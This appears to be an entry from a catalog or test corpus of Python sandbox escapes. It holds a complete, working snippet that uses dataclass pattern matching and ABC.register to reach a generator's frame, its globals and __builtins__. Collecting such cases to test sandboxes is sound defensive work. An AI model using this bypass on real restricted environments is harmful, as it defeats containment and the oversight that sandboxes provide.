# class: frames
# mechanism: class pattern
# how: fields of a class with an abstract base, twice: the frame of a generator, then its globals and the module builtins; Protocol, NamedTuple, numbers.Number and AbstractContextManager as bases do as well
# reaches: namespace __attack__
from dataclasses import dataclass
from abc import ABC
@dataclass
class R:
    f_globals: object
class V(R, ABC): pass
@dataclass
class S:
    gi_frame: object
class W(S, ABC): pass
g = (i for i in "a")
W.register(type(g))
match g:
    case W(f):
        V.register(type(f))
        match f:
            case V(d): print(d["__builtins__"])
